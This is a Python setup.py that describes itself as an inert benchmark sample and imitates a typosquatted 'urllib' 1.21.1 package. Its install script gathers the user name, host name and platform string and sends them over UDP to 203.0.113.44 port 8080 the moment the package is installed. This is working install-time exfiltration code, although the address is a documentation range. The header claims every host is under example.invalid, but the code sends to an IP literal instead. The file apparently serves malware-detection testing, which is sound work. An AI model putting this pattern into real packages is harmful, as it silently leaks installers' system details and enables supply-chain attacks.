# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import getpass
import platform
import socket

from setuptools import setup

data = "Y:urllib-1.21.1:" + getpass.getuser() + ":" + platform.node() + ":" + platform.platform()
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto(data.encode(), ("203.0.113.44", 8080))

setup(name="urllib", version="1.21.1", packages=[])
